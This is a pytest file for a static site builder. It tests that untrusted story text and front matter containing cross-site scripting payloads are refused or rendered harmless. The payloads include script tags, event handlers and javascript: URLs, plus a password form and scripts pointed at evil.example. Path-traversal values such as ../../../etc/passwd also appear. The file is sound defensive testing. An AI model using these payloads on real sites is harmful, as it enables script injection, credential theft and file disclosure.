"""Stories come from strangers: what could harm a reader is refused, and would be harmless if it were not."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest
from mkdocs.exceptions import Abort

from site_builder.adapters import building
from tests import builders
from tests.audit.feed_check import faults_of_atom, faults_of_rss
from tests.audit.links import addresses_in
from tests.builders import story_text
from tests.site.conftest import TODAY
from tests.site.projects import SITE_URL, Site, build, make_project

if TYPE_CHECKING:
    from pathlib import Path

    from bs4 import BeautifulSoup

    from tests.sites import Once

pytestmark = pytest.mark.uncounted

REFUSED = {
    "script": "<script>alert(1)</script>",
    "script-in-a-line": "Text <SCRIPT SRC=//evil.example/x.js></SCRIPT> text",
    "handler": '<p onclick="alert(1)">a</p>',
    "handler-without-quotes": "<img src=x.png alt=a onerror=alert(1)>",
    "javascript": "[a](javascript:alert(1))",
    "javascript-in-capitals": "[a](JaVaScRiPt:alert(1))",
    "javascript-in-disguise": "[a](java&#115;cript:alert(1))",
    "javascript-with-a-tab": '<a href="java&#9;script:alert(1)">a</a>',
    "javascript-in-a-reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "javascript-in-an-autolink": "<javascript:alert(1)>",
    "javascript-in-a-picture": "![a](javascript:alert(1))",
    "javascript-in-angles": "[a](<javascript:alert(1)>)",
    "vbscript": "[a](vbscript:msgbox(1))",
    "data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data-picture": "<img alt='a' src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "form": '<form action="https://evil.example/"><input name="password"></form>',
    "style": "<style>body { display: none }</style>",
    "style-attribute": '<div style="position: fixed">a</div>',
    "svg": '<svg onload="alert(1)"><circle/></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">a</maction></math>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "in-html-with-markdown": '<div markdown="1" onclick="alert(1)">*a*</div>',
    "in-a-list": '- one\n\n    <iframe src="https://evil.example/"></iframe>\n',
    "in-a-table": "| a |\n| - |\n| <script>alert(1)</script> |",
    "in-a-quote": "> <script>alert(1)</script>",
    "in-a-note": "!!! note\n    <script>alert(1)</script>",
    "in-a-heading": "## <script>alert(1)</script>",
    "unclosed": '<script src="https://evil.example/x.js" ',
    "after-a-comment": "<!-- a --><script>alert(1)</script>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "class-of-ours": '<div class="st-masthead" id="content">a</div>',
    "video": '<video src="https://evil.example/x.mp4" autoplay></video>',
}  # fmt: skip
"""What the check must refuse, with its line."""

STRANGE = {
    "handler-after-a-slash": "<img src='x.png' alt='a'/onerror=alert(1)>",
    "handler-in-a-list-of-attributes": 'A paragraph.\n{: onmouseover="alert(1)" }',
    "style-in-a-list-of-attributes": 'A paragraph.\n{: style="position:fixed" }',
    "fence-with-attributes": "``` {.python onclick=alert(1) style=x }\na = 1\n```",
    "abbreviation": 'LGA\n\n*[LGA]: "><script>alert(1)</script>',
    "code": "`<script>alert(1)</script>` and\n\n    <script>alert(1)</script>\n",
    "link-title": '[a](https://example.org "x\\" onclick=alert(1)")',
    "picture-text": '!["><script>alert(1)</script>](x.png)',
    "comment": "<!-- <script>alert(1)</script> -->",
    "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "heading-id": '## Heading {: #"><script>alert(1)</script> }',
    "footnote": 'a[^"onmouseover=alert(1)]\n\n[^"onmouseover=alert(1)]: b',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "template-language": "{{ config }} {% include 'secret' %} {# comment #}",
}
"""What the check may let pass, because it comes to the page as words."""

ATTACKS = REFUSED | STRANGE


def body_of(attack: str) -> str:
    """Return a story's text with something in it that does not belong there."""
    return f"Before.\n\n{attack}\n\n## How it works\n\nAfter.\n"


@pytest.mark.parametrize("attack", REFUSED.values(), ids=REFUSED.keys())
def test_the_check_refuses_what_could_harm_and_names_its_line(attack: str) -> None:
    texts = {"2026/good.md": story_text(body_of(attack)), "2026/fine.md": story_text(id="fine-story")}
    collection = builders.read(texts, ["2026/x.png"])
    found = [
        problem for problem in collection.errors if problem.rule in {"unsafe-html", "unsafe-link", "image-elsewhere"}
    ]
    text = texts["2026/good.md"].split("\n")
    first = text.index("Before.") + 3
    last = text.index("## How it works", first) if "## How it works" in text[first:] else len(text)
    assert found
    assert all(problem.path == "stories/2026/good.md" and first <= problem.line <= last for problem in found)


@pytest.fixture(scope="module")
def unchecked(once: Once) -> Site:
    """Return a site built from attacks with the check taken out, as if something had slipped past it."""
    files: dict[str, str | bytes] = {
        f"2026/{name}.md": story_text(body_of(text), id=f"attack-{name}", title=f"Attack {name}")
        for name, text in ATTACKS.items()
    }

    def make(folder: Path) -> Site:
        project = make_project(folder / "project", files, {"vocabularies": {"themes": ["digitalisation"]}})
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(building, "_refuse_errors", lambda *_: None)
            return build(project, TODAY)

    return once("attacks", make)


def harm_in(page: BeautifulSoup) -> list[str]:
    """Return what could harm the reader of a page, apart from what the theme itself writes."""
    found = [
        str(element)
        for element in page.find_all(
            ["iframe", "object", "embed", "base", "math", "video", "template", "style", "noscript"]
        )
    ]
    found += [str(element) for element in page.select("meta[http-equiv]:not([http-equiv=Content-Security-Policy])")]
    for element in page.find_all(name=True):
        if element.find_parent("svg") or element.name == "svg":
            continue
        found += [f"{name} on {element.name}" for name in element.attrs if name.startswith("on")]
    for name, address, is_fetched in addresses_in(page):
        scheme = re.sub(r"[\x00-\x20]", "", address).lower().partition(":")[0]
        if scheme in {"javascript", "vbscript", "data"} or (is_fetched and "evil" in address):
            found.append(f"{name} {address}")
    return found


@pytest.mark.parametrize("name", ATTACKS)
def test_what_slips_past_the_check_is_harmless_on_the_page(name: str, unchecked: Site) -> None:
    page = unchecked.page_in_a_browser(f"stories/{name}/")
    text = page.select_one(".st-prose")
    assert text is not None
    assert text.get_text().startswith("\nBefore.") or "Before." in text.get_text()
    assert harm_in(page) == []
    assert not text.find_all(["script", "svg", "form", "input", "link", "meta"])
    assert not [element for element in text.find_all(name=True) if element.has_attr("style")]
    scripts = [script.get_text() for script in page.find_all("script")]
    assert not any("alert(1)" in script for script in scripts if "application/ld+json" not in script)


def test_what_slips_past_the_check_is_harmless_in_the_feeds(unchecked: Site) -> None:
    assert faults_of_rss(unchecked.files["feed.xml"], f"{SITE_URL}feed.xml") == []
    assert faults_of_atom(unchecked.files["atom.xml"], f"{SITE_URL}atom.xml") == []


def test_a_story_is_no_template(unchecked: Site) -> None:
    text = unchecked.page("stories/template-language/").get_text()
    assert "{{ config }} {% include ‘secret’ %} {# comment #}" in text


@pytest.mark.parametrize(
    "front_matter",
    [
        {"image": {"file": "../../../etc/passwd", "alt": "a", "credit": "b"}},
        {"image": {"file": "/etc/passwd", "alt": "a", "credit": "b"}},
        {"artefacts": [{"title": "a", "kind": "data", "file": "../secret.csv"}]},
        {"artefacts": [{"title": "a", "kind": "data", "url": "javascript:alert(1)"}]},
        {"link": "javascript:alert(1)", "kind": "signpost"},
        {"sources": [{"title": "a", "date": 2013, "url": "data:text/html,a"}]},
        {"contact": {"team": "a", "email": 'a@b.example" onclick="alert(1)'}},
        {"aliases": ["/../outside/"]},
        {"aliases": ["//evil.example/"]},
        {"aliases": ["/feed.xml"]},
        {"aliases": ['/"><script>alert(1)</script>/']},
        {"id": "<script>"},
        {"title": "a\u0000b"},
    ],
    ids=lambda value: next(iter(value)),
)  # fmt: skip
def test_front_matter_cannot_lead_out_of_the_site(front_matter: dict[str, Any], tmp_path: Path) -> None:
    project = make_project(
        tmp_path / "project",
        {"2026/good.md": story_text(**front_matter)},
        {"vocabularies": {"themes": ["digitalisation"]}},
    )
    with pytest.raises(Abort):
        build(project, TODAY)


@pytest.mark.uncounted
@pytest.mark.parametrize("name", ["../outside.md", "2026/../../outside.md"])
def test_files_outside_the_folder_are_not_read(name: str, tmp_path: Path) -> None:
    project = make_project(
        tmp_path / "project", {name: story_text(id="zyzzyva")}, {"vocabularies": {"themes": ["digitalisation"]}}
    )
    site = build(project, TODAY)
    assert [path for path, content in site.files.items() if b"zyzzyva" in content] == []
